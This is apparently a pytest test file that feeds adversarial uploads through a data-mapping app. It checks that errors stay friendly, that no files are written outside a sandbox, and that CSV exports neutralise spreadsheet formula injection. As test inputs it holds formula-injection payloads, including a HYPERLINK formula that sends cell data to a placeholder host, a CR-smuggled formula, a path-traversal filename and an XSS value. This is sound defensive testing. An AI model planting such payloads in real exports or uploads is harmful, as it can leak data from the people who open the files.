"""Every case of tests/adversarial/cases.py through the real upload path, with the invariants that hold
for all of them: the user sees the expected numbers or a specific message, never a traceback; nothing
is written outside the private temp folder; every CSV the app writes opens in a spreadsheet as data.
"""

from __future__ import annotations

import os
import sys
import tempfile
from datetime import date
from pathlib import Path

import pytest

from atlas import ogp
from atlas.draw import export
from atlas.read import safety
from tests.adversarial.cases import CASES, TRIGGERS, XSS, Case, run

ROOT = Path(__file__).resolve().parents[2]
_WRITES: list[str] | None = None  # while a case runs: every path opened for writing in this process


def _audit(event: str, args: tuple) -> None:
    """Record files opened for writing, directories made and files renamed (Python-level I/O)."""
    if _WRITES is None:
        return
    if event == "open" and args and isinstance(args[0], (str, bytes, os.PathLike)):
        mode, flags = args[1], args[2] if len(args) > 2 else 0
        writing = (isinstance(mode, str) and any(m in mode for m in "wax+")) or (
            mode is None and isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
        )
        if writing:
            _WRITES.append(os.fsdecode(args[0]))
    elif event in ("os.mkdir", "os.rename", "os.symlink", "os.link", "shutil.copyfile", "shutil.move"):
        _WRITES.append(os.fsdecode(args[0]) if not isinstance(args[0], int) else str(args[0]))
        if event in ("os.rename", "os.symlink", "os.link", "shutil.copyfile", "shutil.move") and len(args) > 1:
            _WRITES.append(os.fsdecode(args[1]))


sys.addaudithook(_audit)


def spreadsheet_cells(data: bytes, sep: str = ",") -> list[str]:
    """Cells as a spreadsheet reads them: quotes honoured, and CR, LF or CRLF outside quotes end a row.

    Python's csv module keeps a bare CR inside a cell; Excel does not, which is how an unquoted CR
    smuggles a formula into the first cell of a new row.

    >>> spreadsheet_cells(b'a,"b\\r=1"\\r=2,c')
    ['a', 'b\\r=1', '=2', 'c']
    """
    text = data.decode("utf-8-sig")
    cells, cell, quoted, i = [], [], False, 0
    while i < len(text):
        ch = text[i]
        if quoted:
            if ch == '"' and text[i + 1 : i + 2] == '"':
                cell.append('"')
                i += 1
            elif ch == '"':
                quoted = False
            else:
                cell.append(ch)
        elif ch == '"' and not cell:
            quoted = True
        elif ch in (sep, "\r", "\n"):
            cells.append("".join(cell))
            cell = []
        else:
            cell.append(ch)
        i += 1
    cells.append("".join(cell))
    return [c for c in cells if c != ""]


def formula_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula (numbers such as -3 are data, not formulas)."""

    def is_number(cell: str) -> bool:
        try:
            float(cell)
            return True
        except ValueError:
            return False

    return [c for c in spreadsheet_cells(data) if c.startswith(TRIGGERS) and not is_number(c)]


@pytest.fixture
def sandbox(tmp_path, monkeypatch):
    """Small limits (so over-limit files stay small), a private temp dir, and the write recorder."""
    global _WRITES
    monkeypatch.setattr(safety, "MAX_BYTES", 1 << 20)
    monkeypatch.setattr(safety, "MAX_ROWS", 2000)
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    _WRITES = []
    yield tmp
    _WRITES = None


def _params() -> list:
    return [pytest.param(c, id=c.name) for c in CASES]


@pytest.mark.parametrize("case", _params())
def test_case(case: Case, sandbox: Path) -> None:
    out = run(case)
    writes = list(_WRITES or [])
    case.check(out)
    # no traceback, no exception text: the user reads a sentence
    assert "Traceback" not in out.shown and 'File "' not in out.shown
    # nothing outside the private temp dir, and the temp dir is cleaned up
    outside = [w for w in writes if not os.path.realpath(w).startswith(os.path.realpath(sandbox))]
    assert outside == [], outside
    assert list(sandbox.iterdir()) == []
    for target in (ROOT / "static" / "pwned.json", Path("/etc/cron.d/pwned")):
        assert not target.exists()
    # every CSV export opens as data
    for kind, data in out.exports.items():
        assert formula_cells(data) == [], (kind, formula_cells(data))


def test_there_are_enough_cases() -> None:
    assert len(CASES) >= 42 and len({c.name for c in CASES}) == len(CASES)


def test_stale_cache_one_cell_changed() -> None:
    """A re-upload with one cell changed in 60k rows gets a different key and the new number."""
    from atlas import read
    from atlas.values import userdata

    rows = "".join(f"Нарын;{i % 7}\n" for i in range(60_000))
    first = ("Область;Сумма\n" + rows + "Талас;1\n").encode()
    second = ("Область;Сумма\n" + rows + "Талас;2\n").encode()
    ups = [read.read_upload(d, "same.csv") for d in (first, second)]
    assert ups[0].key != ups[1].key
    tables = [userdata.build(u, userdata.default_choices(u)).table for u in ups]
    assert tables[0].key != tables[1].key
    talas = [float(t.frame.loc[t.frame[t.region_col] == "KG-T", "Сумма"].sum()) for t in tables]
    assert talas == [1.0, 2.0]


def test_same_bytes_same_key_different_names() -> None:
    from atlas import read

    a = read.read_upload(b"Region,N\nNaryn,1\n", "data.csv")
    b = read.read_upload(b"Region,N\nNaryn,1\n", "../../data.csv")
    assert a.key == b.key and a.filename != b.filename  # the name never enters the key


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-x", "@SUM(1)", "\t=1", "\r=1",
     "=HYPERLINK(\"http://x/?\"&A1,\"x\")", 'a",=1+2', XSS],
)
def test_reports_export_is_formula_safe(cell: str, tmp_path: Path) -> None:
    """A monitoring report whose organisation and activity hold a formula is exported as data."""
    from atlas.keep import Store
    from atlas.ogp.reports import Report

    store = Store(f"sqlite:///{tmp_path / 'r.sqlite3'}")
    cid = sorted(ogp.known_ids(ogp.bundled_commitments()))[0]
    report = Report(cid, ("KG-N",), "completed", "https://example.org/x", date(2022, 5, 1), "NGO " + cell,
                    activity=cell, contact=cell)
    store.add_report(report, "k" * 32)
    data = store.reports_csv(include_contact=True)
    store.close()
    cells = spreadsheet_cells(data)
    if "\r" not in cell:
        assert ("'" + cell.strip() if cell.strip().startswith(TRIGGERS) else cell.strip()) in cells, cells
    assert formula_cells(data) == [], formula_cells(data)


def _export_params() -> list:
    out = []
    for trigger in TRIGGERS:
        for where, value, column in (("start", trigger + "=1+2", "n"), ("after_cr", "x\r" + trigger + "=1+2", "n"),
                                     ("column_name", "v", trigger + "col")):
            out.append(pytest.param(value, column, id=f"{where}-{trigger!r}"))
    return out


@pytest.mark.parametrize(("value", "column"), _export_params())
def test_joined_and_match_report_exports_neutralise(value: str, column: str) -> None:
    import pandas as pd

    for data in (export.joined_csv(pd.DataFrame({column: [value]})), export.match_report_csv([{column: value}])):
        assert formula_cells(data) == [], formula_cells(data)
        cells = spreadsheet_cells(data)
        assert cells[0] == ("'" + column if column.startswith(TRIGGERS) else column), cells
